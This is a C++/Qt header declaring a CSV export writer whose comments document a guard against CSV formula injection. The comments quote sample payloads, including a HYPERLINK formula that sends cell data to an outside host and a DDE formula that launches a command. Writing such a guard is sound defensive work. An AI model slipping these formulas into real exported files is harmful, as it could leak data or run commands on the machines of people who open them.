#pragma once

#include <QByteArray>
#include <QString>
#include <QStringList>
#include <QVariant>
#include <QVariantList>

class QAbstractItemModel;

// The one CSV writer of every export: the board, the outcome log, an order's history and
// the trainer's attempts. Qt Core only, no database.
//
// Format (RFC 4180): fields separated by commas, every row ended by CRLF (the last one
// too); a field is quoted when it holds a comma, a double quote, CR or LF (Quoting::AsNeeded)
// or always (Quoting::Always), its double quotes doubled. toUtf8() gives the file's bytes:
// UTF-8, no byte-order mark.
//
// Formula guard (OWASP "CSV injection"): Excel and LibreOffice run a cell that starts with
// =, +, -, @, a tab or a CR as a formula — =HYPERLINK("http://x/?"&A2,"Click"),
// =cmd|'/c calc'!A1, @SUM(A1), -1+1. Every such TEXT cell is written with one apostrophe in
// front ('=HYPERLINK(…)), which makes it a text cell in both; the rest of the cell is kept
// as it was, so a reader who needs the original strips that one apostrophe.
//
// Which cells are text: a cell handed over as a number (a QVariant holding int, qint64,
// double, …) is written as that number, unguarded — a negative total or latency (-3.5) is
// data, and no number can spell a formula. Anything else (QString, a date, a bool, a
// number already formatted into a string) is text and guarded, so "-3.50" as a string is
// written '-3.50. Exporters therefore pass numeric columns as numbers, and names, messages
// and formatted values as text. An invalid QVariant is an empty field.
class CsvWriter
{
public:
    enum class Quoting {
        AsNeeded, // only fields that need it (the usual form)
        Always, // every field, numbers too
    };

    explicit CsvWriter(Quoting quoting = Quoting::AsNeeded)
        : m_quoting(quoting)
    { }

    // A row of column names (text, guarded like any text cell).
    void addHeader(const QStringList &names);
    void addRow(const QVariantList &cells);

    QString text() const { return m_text; }
    QByteArray toUtf8() const { return m_text.toUtf8(); }

    // One field as this writer puts it in a row: guarded, then quoted as needed.
    static QString field(const QVariant &cell, Quoting quoting = Quoting::AsNeeded);
    // True for the QVariant types written as numbers (and so not guarded).
    static bool isNumber(const QVariant &cell);
    // The guard alone: text with an apostrophe in front if it starts like a formula.
    static QString guarded(const QString &text);

private:
    Quoting m_quoting;
    QString m_text;
};

// A model's display text (Qt::DisplayRole) as CSV: a header row from its horizontal
// headers, then every row, every field quoted (today's format of the board and outcome
// log exports). Numbers the model serves as numbers stay numbers; all else is guarded.
QString csvOf(const QAbstractItemModel &model);
